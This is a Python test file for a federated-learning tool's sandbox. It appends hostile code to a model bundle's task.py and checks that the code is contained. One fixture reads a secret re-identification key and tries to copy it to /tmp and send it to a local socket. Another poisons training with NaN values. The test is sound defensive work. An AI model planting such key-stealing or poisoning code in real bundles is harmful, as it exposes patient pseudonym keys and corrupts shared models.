"""Issue 15's finding, end to end: the shipped tabular-risk bundle plus hostile code, registered, approved and
trained locally with ``incisive fl train --node a=DIR --rounds 1``.

Before the sandbox the code read ``secrets/pseudonym.key``, wrote it to /tmp and sent it to a 127.0.0.1
listener, and the job completed normally. Now the same code runs caged: the key is not there, the listener sees
no connection, the host's /tmp gets nothing, and the job still trains (the attempts fail, the bundle goes on).
A bundle whose parameters come back NaN fails the node's part of the job with "output rejected", audited.
"""

from __future__ import annotations

import json
import shutil
import socket
import threading
from pathlib import Path

from typer.testing import CliRunner

from incisive.cli import app
from incisive.common.audit_log import NodeAudit
from incisive.federated.bundle import shipped_bundle
from incisive.federated.service import Workspace
from tests.federated.conftest import MakeNodes

runner = CliRunner()

STEAL = '''

# --- hostile additions (issue 15): steal the re-identification key -------------------------------------------
import socket as _socket
import sys as _sys


def _steal(manifest):
    key = None
    for path in (manifest["params"]["node_dir"] + "/secrets/pseudonym.key", "/proc/1/root/secrets/pseudonym.key"):
        try:
            with open(path, "rb") as f:
                key = f.read()
            print("ATTEMPT read " + path + " => SUCCEEDED", file=_sys.stderr)
        except OSError as exc:
            print("ATTEMPT read key => " + type(exc).__name__, file=_sys.stderr)
    try:
        with open(manifest["params"]["drop"], "wb") as f:
            f.write(key or b"nothing")
        print("ATTEMPT write host tmp => written (inside the sandbox's private /tmp)", file=_sys.stderr)
    except OSError as exc:
        print("ATTEMPT write host tmp => " + type(exc).__name__, file=_sys.stderr)
    try:
        s = _socket.create_connection(("127.0.0.1", int(manifest["params"]["port"])), timeout=3)
        s.sendall(key or b"nothing")
        s.close()
        print("ATTEMPT send => SUCCEEDED", file=_sys.stderr)
    except OSError as exc:
        print("ATTEMPT send => " + type(exc).__name__, file=_sys.stderr)


_load_data = load_data


def load_data(source, manifest, split):
    _steal(manifest)
    return _load_data(source, manifest, split)
'''

NAN = '''

_load_data = load_data


def load_data(source, manifest, split):
    data = _load_data(source, manifest, split)
    data.x[:] = float("nan")  # trains to NaN parameters: what a bundle might send to poison the model
    return data
'''


def _bundle(tmp_path: Path, name: str, extra: str, params: dict[str, object]) -> Path:
    path = tmp_path / name
    shutil.copytree(shipped_bundle("tabular-risk"), path, ignore=shutil.ignore_patterns("__pycache__"))
    manifest = json.loads((path / "manifest.json").read_text())
    manifest["name"] = name
    manifest["params"].update(params)
    (path / "manifest.json").write_text(json.dumps(manifest))
    (path / "task.py").write_text((path / "task.py").read_text() + extra)
    return path


def _listener() -> tuple[socket.socket, list[bytes]]:
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.5)
    got: list[bytes] = []

    def serve() -> None:
        while True:
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            got.append(conn.recv(4096) or b"(connected)")
            conn.close()

    threading.Thread(target=serve, daemon=True).start()
    return server, got


def _train(workspace: Workspace, bundle: Path, name: str, home: Path) -> dict[str, object]:
    ws = ["--workspace", str(workspace.root)]
    r = runner.invoke(app, ["model", "register", str(bundle), *ws])
    assert r.exit_code == 0, r.output
    r = runner.invoke(app, ["node", "policy", "approve", f"{name}:1", "--home", str(home), "--reviewer", "dpo", *ws])
    assert r.exit_code == 0, r.output
    r = runner.invoke(app, ["fl", "train", "--model", f"{name}:1", "--node", f"a={home}", "--rounds", "1",
                            "--round-timeout", "240", "--json", *ws])
    assert r.exit_code in (0, 1), r.output
    out: dict[str, object] = json.loads(r.output[r.output.index("{"):])
    return out


def test_the_key_stealing_bundle_trains_caged_and_steals_nothing(make_nodes: MakeNodes, workspace: Workspace,
                                                                 tmp_path: Path) -> None:
    node = make_nodes(1, "iid", 3)["hospital-a"]
    server, got = _listener()
    drop = Path("/tmp") / f"incisive-stolen-{tmp_path.name}"
    try:
        port = server.getsockname()[1]
        bundle = _bundle(tmp_path, "risk-thief", STEAL, {"node_dir": str(node.home), "port": port,
                                                         "drop": str(drop)})
        job = _train(workspace, bundle, "risk-thief", node.home)
    finally:
        server.close()
    log = "".join(p.read_text() for p in (node.home / "logs").glob("sandbox-*.log"))
    attempts = [line for line in log.splitlines() if line.startswith("ATTEMPT")]
    print("\n".join(attempts))  # the matrix, in the test output
    assert job["job"]["status"] == "completed", job
    assert got == []  # the listener saw no connection
    assert not drop.exists()  # the host's /tmp got nothing
    assert attempts and not any("read" in a and "SUCCEEDED" in a for a in attempts)
    assert any("send =>" in a and "SUCCEEDED" not in a for a in attempts)


def test_nan_parameters_are_rejected_and_audited(make_nodes: MakeNodes, workspace: Workspace,
                                                 tmp_path: Path) -> None:
    node = make_nodes(1, "iid", 4)["hospital-a"]
    job = _train(workspace, _bundle(tmp_path, "risk-nan", NAN, {}), "risk-nan", node.home)
    print(json.dumps(job)[:2000])
    assert "output rejected" in json.dumps(job)
    rejected = [e for e in NodeAudit(node.home).entries() if e.get("action") == "fl.output_rejected"]
    assert rejected and rejected[0]["outcome"] == "denied" and "NaN" in json.dumps(rejected[0])
